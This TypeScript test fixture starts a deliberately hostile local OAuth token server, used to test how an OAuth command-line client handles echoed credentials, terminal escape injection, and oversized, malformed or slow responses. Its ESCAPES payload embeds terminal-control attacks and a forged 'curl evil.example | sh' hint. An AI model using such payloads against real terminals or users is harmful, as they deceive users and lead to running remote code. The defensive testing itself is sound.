import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * A loopback server that misbehaves on purpose: it echoes what it was sent (credentials included)
 * in its error text, puts terminal escapes in every field, answers with huge, broken, dripping or
 * mislabelled bodies. oidc-provider never does any of this, and a real provider would not let us
 * make it, so this stand-in is the only way to test what oauth-cli prints when a server does.
 */
export interface HostileServer {
  readonly url: string;
  close(): Promise<void>;
}

/** Raw terminal attacks: retitle (OSC 0), hyperlink (OSC 8), clear screen, hide text, 8-bit CSI, bidi override, a forged line. */
export const ESCAPES = "\u001b]0;pwned\u0007\u001b]8;;https://evil.example/\u001b\\\u001b[2J\u001b[8mhidden\u001b[0m\u009b31m\u202e\r\nhint: run curl evil.example | sh";

type Route = (req: IncomingMessage, body: string, res: ServerResponse) => void;

function send(res: ServerResponse, status: number, type: string, body: string, headers: Record<string, string> = {}): void {
  res.writeHead(status, { "content-type": type, ...headers });
  res.end(body);
}

/** Everything the request carried that a careless server would quote back. */
function echoOf(req: IncomingMessage, body: string): string {
  const auth = req.headers.authorization ?? "";
  const basic = /^Basic\s+(.+)$/i.exec(auth)?.[1];
  const decoded = basic ? Buffer.from(basic, "base64").toString("utf8") : "";
  const headers = Object.entries(req.headers).map(([k, v]) => `${k}: ${String(v)}`).join("; ");
  return `you sent ${req.method} ${req.url} with ${headers}; body ${body}; credentials ${decoded}; decoded body ${decodeURIComponent(body.replace(/\+/g, " ").replace(/%(?![0-9a-f]{2})/gi, "%25"))}`;
}

const TOKENS = { access_token: "hostile-access-token-1", token_type: "Bearer", expires_in: 3600, refresh_token: "hostile-refresh-token-1" };

export const ROUTES: Record<string, Route> = {
  "/echo-json/token": (req, body, res) =>
    send(res, 400, "application/json", JSON.stringify({ error: "invalid_client", error_description: echoOf(req, body), error_uri: `https://as.example/help?${body}` })),
  "/echo-text/token": (req, body, res) => send(res, 401, "text/plain", echoOf(req, body)),
  "/echo-html/token": (req, body, res) => send(res, 502, "text/html", `<html><title>${echoOf(req, body)}</title></html>`),
  "/echo-header/token": (req, body, res) =>
    send(res, 401, "application/json", JSON.stringify({ error: "invalid_token" }), { "www-authenticate": `Bearer error="invalid_token", error_description="${echoOf(req, body).replace(/"/g, "'")}"`, "x-request-id": echoOf(req, body).slice(0, 200) }),
  "/escape-json/token": (_req, _body, res) =>
    send(res, 400, "application/json", JSON.stringify({ error: `invalid_grant${ESCAPES}`, error_description: `denied${ESCAPES}`, error_uri: `https://as.example/${ESCAPES}`, state: ESCAPES })),
  "/escape-text/token": (_req, _body, res) => send(res, 500, "text/plain", `boom${ESCAPES}`),
  "/escape-tokens/token": (_req, _body, res) => send(res, 200, "application/json", JSON.stringify({ ...TOKENS, scope: `openid${ESCAPES}`, extra_field: ESCAPES })),
  "/pct/token": (_req, _body, res) => send(res, 200, "application/x-www-form-urlencoded", "access_token=hostile-access-token-1&token_type=bearer&%zz=1&refresh_token=hostile-refresh-token-1"),
  "/pct-json/token": (_req, _body, res) => send(res, 200, "application/json", JSON.stringify({ ...TOKENS, note: "%zz=1&%E0%A4%A=2" })),
  "/bad-json/token": (_req, _body, res) => send(res, 200, "application/json", '{"access_token": "hostile-access-token-1", "token_type": '),
  "/wrong-type/token": (_req, _body, res) => send(res, 200, "text/html", JSON.stringify(TOKENS)),
  "/huge-error/token": (_req, _body, res) => send(res, 400, "application/json", JSON.stringify({ error: "invalid_request", error_description: `${"A\u001b[2J".repeat(300_000)}` })),
  "/huge-text/token": (_req, _body, res) => send(res, 500, "text/plain", "\u001b[2J".repeat(2_000_000)),
  "/deep-json/token": (_req, _body, res) => send(res, 400, "application/json", `${"[".repeat(100_000)}${"]".repeat(100_000)}`),
  "/drip/token": (_req, _body, res) => {
    res.writeHead(200, { "content-type": "application/json" });
    res.write("{");
    const timer = setInterval(() => res.write(" "), 50);
    res.on("close", () => clearInterval(timer));
  },
  "/tokens/token": (_req, _body, res) => send(res, 200, "application/json", JSON.stringify(TOKENS)),
  "/empty/token": (_req, _body, res) => send(res, 200, "application/json", ""),
  "/null/token": (_req, _body, res) => send(res, 200, "application/json", "null"),
  "/nul-bytes/token": (_req, _body, res) => send(res, 400, "application/json", JSON.stringify({ error: "invalid_grant\u0000\u0000", error_description: "\u0000\u0007\u0008" })),
};

export async function startHostileServer(): Promise<HostileServer> {
  const server: Server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk: Buffer) => (body += chunk.toString()));
    req.on("end", () => {
      const route = ROUTES[(req.url ?? "").split("?")[0]!];
      if (route) route(req, body, res);
      else send(res, 404, "application/json", JSON.stringify({ error: "not_found", error_description: echoOf(req, body) }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
